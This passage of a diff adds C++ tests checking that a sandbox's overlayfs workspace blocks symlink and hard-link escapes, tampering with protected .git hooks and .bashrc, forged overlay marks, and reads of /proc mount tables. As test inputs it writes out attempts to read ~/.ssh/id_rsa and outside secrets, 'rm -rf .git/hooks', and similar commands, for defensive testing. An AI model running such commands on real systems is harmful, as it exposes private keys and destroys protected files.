+  EXPECT_EQ(made.stdout_data, "made\n") << made.stderr_data;
+  EXPECT_TRUE(fs::is_symlink(upper() / "ssh-dir"));  // where it landed, not in the real tree
+  auto r = shell("cat ssh-dir/id_rsa key; ls ssh-dir; echo x > out/planted; cat out/secret.txt");
+  EXPECT_NE(r.exit_code, 0);
+  EXPECT_EQ(r.stdout_data.find(kKeySentinel), std::string::npos) << r.stdout_data;
+  EXPECT_EQ(r.stdout_data.find("OUTSIDE-SECRET"), std::string::npos) << r.stdout_data;
+  EXPECT_EQ(r.stdout_data.find("id_rsa"), std::string::npos) << r.stdout_data;
+  EXPECT_EQ(first_line(attack({"read", (ws_ / "key").string()}).stdout_data), "EACCES");
+  EXPECT_FALSE(fs::exists(outside_ / "planted"));
+}
+
+// Hard links (and linkat of an O_PATH descriptor) never bring a file from outside into the layer,
+// nor one from the layer out.
+TEST_P(OverlayBattery, HardlinksCrossNothing) {
+  for (const auto& [from, to] :
+       std::vector<std::pair<fs::path, fs::path>>{{outside_ / "secret.txt", ws_ / "h1"},
+                                                  {home_ / ".ssh" / "id_rsa", ws_ / "h2"},
+                                                  {ws_ / "inside.txt", outside_ / "h3"},
+                                                  {ws_ / "inside.txt", upper() / "h4"}}) {
+    auto r = attack({"link", from.string(), to.string()});
+    EXPECT_NE(first_line(r.stdout_data), "OK") << from << " -> " << to;
+  }
+  auto opath = attack({"opath_link", (home_ / ".ssh" / "id_rsa").string(), (ws_ / "h5").string()});
+  EXPECT_NE(first_line(opath.stdout_data), "OK") << opath.stdout_data;
+  EXPECT_EQ(opath.stdout_data.find(kKeySentinel), std::string::npos);
+  for (const char* name : {"h1", "h2", "h4", "h5"}) EXPECT_FALSE(visible(name)) << name;
+  EXPECT_FALSE(fs::exists(outside_ / "h3"));
+  EXPECT_FALSE(fs::exists(upper() / "h4"));
+}
+
+// What is kept read-only in the workspace (.git, its hooks, rc files) can't be renamed or deleted
+// out of the way in the overlay either, and stays read-only for a later policy over the same layer.
+TEST_P(OverlayBattery, ProtectedPathsCannotBeRenamedAway) {
+  for (const auto& [from, to] :
+       std::vector<std::pair<std::string, std::string>>{{".git", "git-old"},
+                                                        {".git/hooks", "hooks-old"},
+                                                        {".git/hooks/pre-commit.sample", "sample"},
+                                                        {".git/config", "config-old"},
+                                                        {".bashrc", "rc-old"}}) {
+    auto r = attack({"rename", (ws_ / from).string(), (ws_ / to).string()});
+    EXPECT_NE(first_line(r.stdout_data), "OK") << from;
+    EXPECT_TRUE(visible(from)) << from;
+    EXPECT_FALSE(visible(to)) << to;
+  }
+  auto removed = shell("rm -rf .git/hooks; rm -f .bashrc; mkdir -p .git/hooks/x");
+  EXPECT_NE(removed.exit_code, 0);
+  auto later = attack({"write", (ws_ / ".git" / "hooks" / "pre-commit").string()});
+  EXPECT_TRUE(write_refused(first_line(later.stdout_data))) << later.stdout_data;
+  EXPECT_TRUE(visible(".git/hooks/pre-commit.sample"));
+  EXPECT_FALSE(visible(".git/hooks/pre-commit"));
+  EXPECT_EQ(slurp(seen(".bashrc")), "# workspace rc\n");
+}
+
+// overlayfs's own marks can't be forged from inside: a whiteout or an opaque directory would hide
+// files of the real tree from the review.
+TEST_P(OverlayBattery, MarksCannotBeForged) {
+  fs::create_directories(ws_ / "docs");
+  std::ofstream(ws_ / "docs" / "kept.txt") << "kept";
+  EXPECT_NE(first_line(attack({"whiteout", (ws_ / "inside.txt").string()}).stdout_data), "OK");
+  EXPECT_NE(first_line(attack({"whiteout", (ws_ / "new-node").string()}).stdout_data), "OK");
+  for (const char* name : {"trusted.overlay.opaque", "user.overlay.opaque",
+                           "trusted.overlay.redirect", "user.overlay.redirect"}) {
+    auto r = attack({"setxattr_named", (ws_ / "docs").string(), name, "y"});
+    EXPECT_NE(first_line(r.stdout_data), "OK") << name;
+  }
+  auto listed = shell("cat docs/kept.txt inside.txt");
+  EXPECT_EQ(listed.stdout_data, "keptinside") << listed.stderr_data;
+  fs::remove_all(ws_ / "docs");
+}
+
+// The command's own mount table: /proc is not granted, so it learns nothing of the layers there.
+TEST_P(OverlayBattery, MountTableIsNotReadable) {
+  for (const char* path : {"/proc/self/mountinfo", "/proc/self/mounts", "/proc/mounts"}) {
+    auto r = attack({"read", path});
+    EXPECT_TRUE(first_line(r.stdout_data) == "EACCES" || first_line(r.stdout_data) == "ENOENT")
+        << path << ": " << r.stdout_data;
+  }
+  auto sh = shell("cat /proc/self/mountinfo /proc/mounts; findmnt 2>&1; mount 2>&1");
+  EXPECT_EQ(sh.stdout_data.find(layers_->string()), std::string::npos) << sh.stdout_data;
+}
+
+std::string workspace_mode(const ::testing::TestParamInfo<bool>& info) {
+  return info.param ? "Overlay" : "Plain";
+}
+INSTANTIATE_TEST_SUITE_P(Workspace, SecurityBattery, ::testing::Values(false, true),
+                         workspace_mode);
+INSTANTIATE_TEST_SUITE_P(Workspace, OverlayBattery, ::testing::Values(true), workspace_mode);
 
 }  // namespace
